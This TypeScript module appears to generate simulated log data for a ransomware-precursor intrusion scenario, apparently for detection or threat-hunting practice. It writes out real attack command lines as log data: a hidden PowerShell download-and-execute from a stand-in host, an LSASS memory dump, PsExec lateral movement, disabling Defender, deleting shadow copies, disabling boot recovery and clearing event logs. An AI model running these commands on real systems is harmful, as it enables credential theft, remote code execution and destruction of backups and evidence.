import { accountNamed, deviceNamed, deviceOf } from '../company';
import type { Rng } from '../core/random';
import type { Emit } from '../core/tables';
import { HOUR, MINUTE, SECOND } from '../core/time';
import { encodedCommand } from '../life/servers';
import {
  deviceEventRow,
  fileRow,
  logonRow,
  networkRow,
  processRow,
  type Running,
  running,
} from '../rows/device';
import { strayImage } from '../rows/images';
import { sendMail } from '../rows/mail';
import { securityRow, subject } from '../rows/on-premises';
import { CAST } from '../world/cast';
import { address, type Net } from '../world/places';
import type { Device, Person } from '../world/types';
import type { Stage, Story } from './story';

const cast = CAST.ransomware;
const SENDER = address('saoPaulo', 2, 61);
const COMMAND = address('hetzner', 3, 52);
const TOOL = strayImage('PsExec64.exe', 'C:\\ProgramData', 'psexec.c');
const SERVICE = strayImage('PSEXESVC.exe', 'C:\\Windows', 'psexesvc.exe');

/** A loader that comes by mail and starts hidden PowerShell; a live variant ends after it. */
export interface Loader {
  readonly victim: Person;
  readonly device: Device;
  readonly sender: string;
  readonly senderNet: Net;
  readonly command: Net;
  readonly host: string;
  readonly file: string;
}

/** @returns the shell that the loader leaves behind */
export function runLoader(rng: Rng, emit: Emit, t: number, loader: Loader): Running {
  const { victim, device } = loader;
  sendMail(
    rng,
    t,
    {
      from: { address: loader.sender, display: 'Freight Desk' },
      to: [victim],
      subject: `Delivery note ${rng.int(10_000, 99_999)}`,
      net: loader.senderNet,
      attachments: [{ name: loader.file, type: 'Script', size: 18_422 }],
      firstContact: true,
    },
    emit,
  );
  const open = t + 26 * MINUTE;
  const downloads = `C:\\Users\\${victim.sam}\\Downloads`;
  const outlook = running(rng, 'outlook', victim, open - 2 * HOUR);
  emit(
    'DeviceFileEvents',
    open,
    fileRow(rng, open, device, {
      action: 'FileCreated',
      folder: downloads,
      file: loader.file,
      process: outlook,
    }),
  );
  const desktop = running(rng, 'explorer', victim, open - 5 * HOUR);
  const script = running(
    rng,
    'wscript',
    victim,
    open + 20 * SECOND,
    `"C:\\Windows\\System32\\WScript.exe" "${downloads}\\${loader.file}"`,
    desktop,
  );
  emit(
    'DeviceProcessEvents',
    open + 20 * SECOND,
    processRow(rng, open + 20 * SECOND, device, {
      process: script,
      by: desktop,
    }),
  );
  const hidden = encodedCommand(
    `IEX (New-Object Net.WebClient).DownloadString('https://${loader.host}/s.txt')`,
  );
  const shell = running(
    rng,
    'powershell',
    victim,
    open + 24 * SECOND,
    `powershell.exe -nop -w hidden -enc ${hidden}`,
    script,
  );
  emit(
    'DeviceProcessEvents',
    open + 24 * SECOND,
    processRow(rng, open + 24 * SECOND, device, { process: shell, by: script }),
  );
  for (let i = 0; i < 14; i++) {
    const time = open + 40 * SECOND + i * rng.int(3, 7) * MINUTE;
    emit(
      'DeviceNetworkEvents',
      time,
      networkRow(rng, time, device, {
        process: shell,
        remoteIp: loader.command.ip,
        remotePort: 443,
        url: loader.host,
      }),
    );
  }
  return shell;
}

/** LSASS is dumped where an administrator had signed in that morning. */
function credentials({ rng, emit }: Stage, t: number, shell: Running): void {
  const victim = accountNamed(cast.victim);
  const device = deviceOf(victim);
  const admin = accountNamed(cast.admin);
  emit(
    'DeviceLogonEvents',
    t - 3 * HOUR,
    logonRow(rng, t - 3 * HOUR, device, {
      who: admin,
      type: 'RemoteInteractive',
      from: { name: 'lf-jmp01', ip: deviceNamed('LF-JMP01').ip },
      localAdmin: true,
    }),
  );
  const dump = running(
    rng,
    'rundll32',
    victim,
    t,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.tmp full',
    shell,
  );
  emit('DeviceProcessEvents', t, processRow(rng, t, device, { process: dump, by: shell, integrity: 'High' }));
  emit(
    'DeviceEvents',
    t + 900,
    deviceEventRow(
      rng,
      t + 900,
      device,
      'OpenProcessApiCall',
      dump,
      { DesiredAccess: 2_097_151 },
      {
        FileName: 'lsass.exe',
        FolderPath: 'C:\\Windows\\System32\\lsass.exe',
        ProcessId: 712,
        ProcessCommandLine: 'C:\\Windows\\System32\\lsass.exe',
      },
    ),
  );
  emit(
    'DeviceFileEvents',
    t + 2_000,
    fileRow(rng, t + 2_000, device, {
      action: 'FileCreated',
      folder: 'C:\\ProgramData',
      file: 'd.tmp',
      process: dump,
      size: 58_113_024,
    }),
  );
}

/** With the administrator's credentials onto two servers, one after the other. */
function spread({ rng, emit }: Stage, t: number): void {
  const from = deviceOf(accountNamed(cast.victim));
  const admin = accountNamed(cast.admin);
  cast.targets.forEach((name, i) => {
    const server = deviceNamed(name);
    const time = t + i * 95 * MINUTE;
    const started = time - 8 * SECOND;
    const shellThere = running(rng, 'cmd', admin, started - MINUTE, '"cmd.exe"', 'powershell');
    const tool = running(
      rng,
      TOOL,
      admin,
      started,
      `C:\\ProgramData\\PsExec64.exe \\\\${server.name.toLowerCase()} -accepteula -h cmd.exe`,
      'cmd',
    );
    emit(
      'DeviceProcessEvents',
      started,
      processRow(rng, started, from, { process: tool, by: shellThere, integrity: 'High' }),
    );
    emit(
      'DeviceLogonEvents',
      time,
      logonRow(rng, time, server, {
        who: admin,
        type: 'Network',
        from: { name: from.name.toLowerCase(), ip: from.ip },
        protocol: 'NTLM',
        localAdmin: true,
      }),
    );
    const services = running(
      rng,
      'services',
      'SYSTEM',
      time - 90 * HOUR,
      'C:\\Windows\\system32\\services.exe',
      'wininit',
    );
    emit(
      'DeviceEvents',
      time + 3_000,
      deviceEventRow(
        rng,
        time + 3_000,
        server,
        'ServiceInstalled',
        services,
        {
          ServiceName: 'PSEXESVC',
          ServiceStartType: 3,
          ServiceAccount: 'LocalSystem',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
        },
        { FileName: 'PSEXESVC.exe', FolderPath: 'C:\\Windows\\PSEXESVC.exe' },
      ),
    );
    emit(
      'SecurityEvent',
      time + 3_100,
      securityRow(rng, time + 3_100, server, 4697, {
        ...subject(rng, admin),
        ServiceName: 'PSEXESVC',
        ServiceFileName: '%SystemRoot%\\PSEXESVC.exe',
        ServiceType: '0x10',
        ServiceStartType: 3,
        ServiceAccount: 'LocalSystem',
      }),
    );
    const remote = running(rng, SERVICE, 'SYSTEM', time + 4_000, 'C:\\Windows\\PSEXESVC.exe', 'services');
    const shell = running(rng, 'cmd', admin, time + 6_000, '"cmd.exe"', 'services');
    emit(
      'DeviceProcessEvents',
      time + 4_000,
      processRow(rng, time + 4_000, server, { process: remote, by: services }),
    );
    emit(
      'DeviceProcessEvents',
      time + 6_000,
      processRow(rng, time + 6_000, server, { process: shell, by: remote, integrity: 'High' }),
    );
    prepare({ rng, emit }, time + 20 * MINUTE, server, admin, shell);
  });
}

/** Backups and guards go first; what would have followed was stopped. */
function prepare(
  { rng, emit }: Pick<Stage, 'rng' | 'emit'>,
  t: number,
  server: Device,
  admin: Person,
  shell: Running,
): void {
  const steps = [
    ['powershell', 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'],
    ['vssadmin', 'vssadmin.exe delete shadows /all /quiet'],
    ['bcdedit', 'bcdedit.exe /set {default} recoveryenabled no'],
    ['wevtutil', 'wevtutil.exe cl System'],
  ] as const;
  steps.forEach(([image, command], i) => {
    const time = t + i * rng.int(40, 90) * SECOND;
    emit(
      'DeviceProcessEvents',
      time,
      processRow(rng, time, server, {
        process: running(rng, image, admin, time, command, 'cmd'),
        by: shell,
        integrity: 'High',
      }),
    );
  });
}

export const ransomware: Story = {
  id: 'ransomware-precursor',
  title: 'Loader by mail, credentials dumped, servers entered, backups removed: stopped before encryption',
  accounts: [`${cast.victim}@larkfield.example`, `${cast.admin}@larkfield.example`],
  hosts: cast.targets.map((name) => `${name.toLowerCase()}.larkfield.example`),
  addresses: [SENDER.ip, COMMAND.ip],
  domains: ['email', 'endpoint'],
  techniques: [
    'T1566.001',
    'T1204.002',
    'T1059.001',
    'T1003.001',
    'T1021.002',
    'T1569.002',
    'T1562.001',
    'T1490',
    'T1070.001',
  ],
  from: 7,
  to: 4,
  tell(stage) {
    const victim = accountNamed(cast.victim);
    const t = stage.at(5, 0, 8, 40);
    const shell = runLoader(stage.rng, stage.emit, t, {
      victim,
      device: deviceOf(victim),
      sender: 'despatch@coastal-freight-desk.example',
      senderNet: SENDER,
      command: COMMAND,
      host: 'cdn.coastal-freight-desk.example',
      file: 'Delivery note 40217.js',
    });
    credentials(stage, t + 4 * HOUR, shell);
    spread(stage, t + 6 * HOUR);
  },
};
